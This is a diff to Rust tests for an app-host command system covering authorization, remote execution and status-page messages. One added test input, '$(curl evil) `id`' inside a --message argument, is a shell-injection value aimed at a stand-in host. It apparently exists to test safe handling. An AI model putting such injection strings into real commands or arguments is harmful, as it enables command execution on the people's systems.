@@ -86,6 +86,8 @@ fn every_app_host_command_parses_authorizes_and_renders() {
                 ("console:alice", "/ops restart app"),
                 ("console:bob", "/ai rotate-keys"),
                 ("console:erin", "/security rotate-keys"),
+                ("console:alice", "/security enhanced-monitoring"),
+                ("console:dave", "/security enhanced-monitoring"),
             ],
         ),
         (
@@ -130,6 +132,16 @@ fn every_app_host_command_parses_authorizes_and_renders() {
                 ("console:alice", "/backup list"),
                 ("console:bob", "/security nginx-reload"),
                 ("console:erin", "/security rotate-keys"),
+                ("console:alice", "/ops status-page"),
+                (
+                    "console:alice",
+                    "/ops status-page --message \"Degraded: scraping paused (back by 14:00)\"",
+                ),
+                (
+                    "console:alice",
+                    "/ops status-page --message \"$(curl evil) `id`\"",
+                ),
+                ("console:dave", "/ops status-page"),
             ],
         ),
         (
@@ -329,6 +341,13 @@ async fn queue_and_chat_app_host_commands_run_remotely_as_rendered() {
     assert_runs("chat", "ops restart app", &[], restart).await;
     assert_runs("chat", "ai rotate-keys", &[], restart).await;
     assert_runs("chat", "security rotate-keys", &[], restart).await;
+    assert_runs(
+        "chat",
+        "security enhanced-monitoring",
+        &[],
+        &[("npm", &["run", "security:enhanced-monitoring"], true)],
+    )
+    .await;
 }
 
 #[tokio::test]
@@ -424,18 +443,21 @@ async fn the_status_message_reaches_the_script_in_its_environment_as_one_value()
     )
     .unwrap();
     let c = catalog(Some(&s));
-    let cmd = c.get("pdf", "ops status-page").unwrap();
     let ex = s.executor(&["npm"]);
     let msg = "We're back: all (100%) & \"fine\" #1";
-    let out = ex
-        .execute(&cmd.action, &c.targets, &args(&[("message", msg)]))
-        .await
-        .unwrap();
     let app = s.path("app");
-    assert_eq!(out.text, format!("{msg}|run status:update|{app}"));
-    // Without --message the variable is not set at all.
-    let out = ex.execute(&cmd.action, &c.targets, &args(&[])).await.unwrap();
-    assert_eq!(out.text, format!("unset|run status:update|{app}"));
+    // pdf (seed 004's script) and scrape (the same script, runbooks.md OPS-43).
+    for profile in ["pdf", "scrape"] {
+        let cmd = c.get(profile, "ops status-page").unwrap();
+        let out = ex
+            .execute(&cmd.action, &c.targets, &args(&[("message", msg)]))
+            .await
+            .unwrap();
+        assert_eq!(out.text, format!("{msg}|run status:update|{app}"), "{profile}");
+        // Without --message the variable is not set at all.
+        let out = ex.execute(&cmd.action, &c.targets, &args(&[])).await.unwrap();
+        assert_eq!(out.text, format!("unset|run status:update|{app}"), "{profile}");
+    }
 }
 
 #[tokio::test]
@@ -445,6 +467,13 @@ async fn scrape_app_host_commands_run_remotely_as_rendered() {
         "ops procs",
         &[],
         &[("sudo", &["-n", "supervisorctl", "status"], false)],
+    )
+    .await;
+    assert_runs(
+        "scrape",
+        "ops status-page",
+        &[("message", "Degraded")],
+        &[("npm", &["run", "status:update"], true)],
     )
     .await;
     assert_runs(
